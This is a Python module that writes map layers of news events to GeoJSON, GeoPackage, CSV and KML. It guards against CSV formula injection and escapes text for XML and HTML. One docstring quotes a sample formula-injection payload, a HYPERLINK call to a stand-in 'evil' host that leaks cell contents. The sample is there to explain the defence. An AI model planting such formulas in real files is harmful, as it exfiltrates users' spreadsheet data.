"""Exports of map layers: GeoJSON (RFC 7946), GeoPackage, CSV, KML.

Every writer takes the ``{name: GeoDataFrame}`` of :func:`placemap.maps.build_layers`,
writes a temporary file beside the target and renames it into place, so a reader never
sees half a file and a failed export leaves the old one. Text is written raw (exports are
data, not pages); every column of the layers is kept. The one exception is the CSV, which
spreadsheets open: a text cell that a spreadsheet would run as a formula is neutralised
(:func:`neutralise_formula`). The other is KML, whose descriptions Google Earth shows as
HTML and whose placemarks take the map's category colours: see :func:`write_kml`.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any
from xml.sax.saxutils import escape as xml_escape

from placemap.atomic import atomic_open, atomic_path

if TYPE_CHECKING:
    import geopandas as gpd

__all__ = [
    "combined",
    "kml_colour",
    "kml_placemarks",
    "neutralise_formula",
    "write_csv",
    "write_geojson",
    "write_gpkg",
    "write_kml",
]

#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A plain number, which a leading sign does not make a formula ("-12.5", "+3e4").
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
#: What XML 1.0 cannot hold even as a character reference: C0 controls but tab, LF and CR,
#: lone surrogates, U+FFFE and U+FFFF. XML escaping copies them through, and one of them in
#: a quote would make the whole file unreadable.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def neutralise_formula(value: object) -> object:
    """Return ``value`` with a ``'`` in front when a spreadsheet would run it as a formula.

    News text and users' place names are hostile input: ``=HYPERLINK("http://evil/?"&A1)``
    in a CSV cell leaks the sheet when it is opened. As OWASP recommends, a text cell that
    opens with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe,
    which spreadsheets show as text. Plain numbers ("-12.5") and anything not a string
    are returned unchanged.

    Parameters
    ----------
    value : object
        A cell.

    Returns
    -------
    object
        The cell, safe to open in a spreadsheet.

    Examples
    --------
    >>> neutralise_formula("=1+2"), neutralise_formula("-12.5"), neutralise_formula("Kyiv")
    ("'=1+2", '-12.5', 'Kyiv')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def combined(layers: Mapping[str, gpd.GeoDataFrame], names: Iterable[str] | None = None) -> gpd.GeoDataFrame:
    """All features of ``layers`` (or of the ``names`` among them) in one frame, with ``layer``."""
    import geopandas as gpd
    import pandas as pd

    from .layers import empty_layer

    chosen = [layers[n] for n in (names if names is not None else layers) if n in layers and not layers[n].empty]
    if not chosen:
        return empty_layer("")
    return gpd.GeoDataFrame(pd.concat(chosen, ignore_index=True), geometry="geometry", crs="EPSG:4326")


def write_geojson(
    layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
) -> Path:
    """Write the layers as one RFC 7946 GeoJSON FeatureCollection; the ``layer`` property
    says which layer a feature belongs to.

    GDAL writes it (``RFC7946=YES``): longitude first, no ``crs`` member, counter-clockwise
    exterior rings, at most 7 decimals, UTF-8 text unescaped.
    """
    frame = combined(layers, names)
    with atomic_path(path) as temporary:
        frame.to_file(temporary, driver="GeoJSON", engine="pyogrio", RFC7946="YES", WRITE_NAME="NO")
    return Path(path)


def write_gpkg(
    layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
) -> Path:
    """Write a GeoPackage with one table per non-empty layer (named after the layer)."""
    chosen = [n for n in (names if names is not None else layers) if n in layers and not layers[n].empty]
    with atomic_path(path) as temporary:
        for name in chosen:
            frame = layers[name]
            kinds = set(frame.geom_type.dropna())
            geometry_type = kinds.pop() if len(kinds) == 1 else "Unknown"
            frame.to_file(
                temporary, driver="GPKG", layer=name, engine="pyogrio", geometry_type=geometry_type, append=False
            )
        if not chosen:
            combined(layers, ()).to_file(temporary, driver="GPKG", layer="events", engine="pyogrio")
    return Path(path)


def write_csv(
    layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
) -> Path:
    """Write one CSV row per feature: every column, ``lat``/``lon`` of the event's point
    (a line's start, an area's representative point) and the geometry as WKT.

    Text cells a spreadsheet would run as formulas are neutralised (:func:`neutralise_formula`).
    """
    import pandas as pd
    import shapely

    frame = combined(layers, names)
    geometry = frame.geometry.to_numpy()
    anchor = shapely.point_on_surface(geometry)
    is_line = shapely.get_type_id(geometry) == shapely.GeometryType.LINESTRING
    anchor[is_line] = shapely.get_point(geometry[is_line], 0)
    table = frame.drop(columns="geometry")
    table["lat"] = table["lat"].where(table["lat"].notna(), shapely.get_y(anchor))
    table["lon"] = table["lon"].where(table["lon"].notna(), shapely.get_x(anchor))
    table["wkt"] = shapely.to_wkt(geometry, rounding_precision=7, trim=True)
    for column in table.columns:
        if not pd.api.types.is_numeric_dtype(table[column]):
            table[column] = table[column].map(neutralise_formula)
    with atomic_path(path) as temporary:
        # RFC 4180's CRLF: the csv module then quotes a cell holding a lone CR, which would
        # otherwise end the row early in every reader.
        table.to_csv(temporary, index=False, encoding="utf-8", lineterminator="\r\n")
    return Path(path)


def _text(value: object) -> str:
    """A cell as text: missing values (None, NaN) are empty."""
    if value is None or (isinstance(value, float) and value != value):
        return ""
    return str(value)


def kml_placemarks(layers: Mapping[str, gpd.GeoDataFrame], names: Iterable[str] | None = None) -> gpd.GeoDataFrame:
    """The features of ``layers`` as KML placemarks: ``Name``, ``Description``, ``Layer`` and geometry.

    The name is plain text ("Shelling: Kharkiv", "Evacuation corridors: Mariupol → Zaporizhzhia",
    a mentioned place's own name). The description is HTML, which Google Earth renders in the
    balloon: fixed markup around the category, status, date or range of days, place(s), quoted
    sentence, attribution and source, each passed once through
    :func:`placemap.maps.sanitize.escape` so that article text shows as text and never runs.
    Characters XML cannot hold are dropped from both. Escaping for XML is the writer's job.
    ``Layer`` names the feature's layer, which picks its style (colour).

    Parameters
    ----------
    layers : Mapping[str, geopandas.GeoDataFrame]
        The layers of :func:`placemap.maps.build_layers`.
    names : Iterable[str], optional
        The layers to take (all by default).

    Returns
    -------
    geopandas.GeoDataFrame
        One row per feature, EPSG:4326.
    """
    import geopandas as gpd

    from .sanitize import escape
    from .style import CATEGORY_STYLES

    frame = combined(layers, names)
    titles: list[str] = []
    descriptions: list[str] = []
    for row in frame.drop(columns="geometry").to_dict("records"):
        label = CATEGORY_STYLES.get(_text(row["layer"]), ("",))[0]
        origin, destination = _text(row["origin_name"]), _text(row["destination_name"])
        where = f"{origin} → {destination}" if origin and destination else _text(row["place"]) or origin
        if row["layer"] == "mentioned":
            titles.append(where)
        else:
            titles.append(f"{label}: {where}" if where else label)
        admin1, country = _text(row["admin1"]), _text(row["country"])
        first, last = _text(row["date_first"]), _text(row["date"])
        day = f"{first} – {last}" if first and last and first != last else last
        reports = row["reports"]
        fields = [
            ("Category", label if row["layer"] != "mentioned" else "Mentioned"),
            ("Status", _text(row["status"])),
            ("Date", day),
            ("Reports", str(reports) if isinstance(reports, int) and reports > 1 else ""),
            # A line's admin-1 and country are its origin's, which would read as the route's.
            ("Place", where if destination else ", ".join(p for p in (where, admin1, country) if p)),
            ("Quote", f"“{_text(row['quote'])}”" if _text(row["quote"]) else ""),
            ("According to", _text(row["attribution"])),
            ("Source", ", ".join(s for s in (_text(row["source"]), _text(row["published"])) if s)),
            ("Note", _text(row["note"])),
        ]
        descriptions.append("<br>".join(f"<b>{key}:</b> {escape(value)}" for key, value in fields if value))
    return gpd.GeoDataFrame(
        {
            "Name": [_NOT_XML.sub("", t) for t in titles],
            "Description": [_NOT_XML.sub("", d) for d in descriptions],
            "Layer": frame["layer"].astype(str).to_numpy(),
        },
        geometry=frame.geometry.to_numpy(),
        crs="EPSG:4326",
    )


def write_kml(
    layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
) -> Path:
    """Write the layers as KML for Google Earth: one placemark per feature (:func:`kml_placemarks`).

    A ``Document`` with one ``Style`` per layer, in the map's colours
    (:data:`placemap.maps.style.CATEGORY_STYLES`: a tinted circle for points, the line's
    colour, a translucent fill for areas), and a ``Folder`` named ``placemap`` of placemarks,
    each pointing at its layer's style: points, lines for corridors and flows, polygons for
    claimed areas, longitude first. Only the name and the description are written, no
    ``ExtendedData``: Google Earth shows those fields in the balloon too, and raw article text
    must not reach it. The standard library's XML escaping is applied here, and only here
    (GDAL's KML driver cannot take styles from pyogrio, so the file is written directly).
    """
    frame = kml_placemarks(layers, names)
    with atomic_open(path) as handle:
        _write_kml_document(frame, handle)
    return Path(path)


#: The circle Google Earth tints in a style's colour (its own icon set).
KML_ICON = "https://maps.google.com/mapfiles/kml/shapes/placemark_circle.png"


def kml_colour(colour: str, opacity: float = 1.0) -> str:
    """A ``#rrggbb`` colour as KML's ``aabbggrr``.

    Examples
    --------
    >>> kml_colour("#d7301f"), kml_colour("#d7301f", 0.25)
    ('ff1f30d7', '401f30d7')
    """
    red, green, blue = colour[1:3], colour[3:5], colour[5:7]
    return f"{round(opacity * 255):02x}{blue}{green}{red}".lower()


def _kml_styles(layer_names: Iterable[str]) -> str:
    """One ``Style`` per layer (``id`` = the layer's name), from the map's palette."""
    from .style import CATEGORY_STYLES

    styles = []
    for name in layer_names:
        if name not in CATEGORY_STYLES:
            continue
        colour = CATEGORY_STYLES[name][1]
        styles.append(
            f'<Style id="{name}"><IconStyle><color>{kml_colour(colour)}</color><scale>0.9</scale>'
            f"<Icon><href>{KML_ICON}</href></Icon></IconStyle>"
            f"<LineStyle><color>{kml_colour(colour)}</color><width>3</width></LineStyle>"
            f"<PolyStyle><color>{kml_colour(colour, 0.25)}</color></PolyStyle></Style>\n"
        )
    return "".join(styles)


def _write_kml_document(frame: gpd.GeoDataFrame, handle: IO[str]) -> None:
    """Write the placemarks of :func:`kml_placemarks` as a KML document with the layers' styles.

    The text of names and descriptions goes through the standard library's XML escaping here,
    and only here; coordinates are numbers this function formats; style ids are layer names.
    """
    layer_names = list(dict.fromkeys(frame["Layer"])) if "Layer" in frame else []
    handle.write('<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2">\n')
    handle.write(f"<Document><name>placemap</name>\n{_kml_styles(layer_names)}<Folder><name>placemap</name>\n")
    styles = frame["Layer"] if "Layer" in frame else [None] * len(frame)
    for name, description, style, geometry in zip(
        frame["Name"], frame["Description"], styles, frame.geometry, strict=True
    ):
        style_url = f"<styleUrl>#{xml_escape(style)}</styleUrl>" if style else ""
        handle.write(
            f"<Placemark><name>{xml_escape(name)}</name><description>{xml_escape(description)}</description>"
            f"{style_url}{_kml_geometry(geometry)}</Placemark>\n"
        )
    handle.write("</Folder></Document></kml>\n")


def _kml_coordinates(geometry: Any) -> str:
    """``lon,lat`` pairs separated by spaces, at most 7 decimals (about a centimetre)."""
    import shapely

    return " ".join(
        f"{x:.7f}".rstrip("0").rstrip(".") + "," + f"{y:.7f}".rstrip("0").rstrip(".")
        for x, y in shapely.get_coordinates(geometry)
    )


def _kml_geometry(geometry: Any) -> str:
    """A shapely geometry as a KML geometry element ("" for a missing or empty one)."""
    if geometry is None or geometry.is_empty:
        return ""
    kind = geometry.geom_type
    if kind == "Point":
        return f"<Point><coordinates>{_kml_coordinates(geometry)}</coordinates></Point>"
    if kind == "LineString":
        return f"<LineString><coordinates>{_kml_coordinates(geometry)}</coordinates></LineString>"
    if kind == "Polygon":
        rings = [("outerBoundaryIs", geometry.exterior), *(("innerBoundaryIs", ring) for ring in geometry.interiors)]
        boundaries = "".join(
            f"<{tag}><LinearRing><coordinates>{_kml_coordinates(ring)}</coordinates></LinearRing></{tag}>"
            for tag, ring in rings
        )
        return f"<Polygon>{boundaries}</Polygon>"
    # MultiPoint, MultiLineString, MultiPolygon (a claim over several areas), collections.
    return f"<MultiGeometry>{''.join(_kml_geometry(part) for part in geometry.geoms)}</MultiGeometry>"
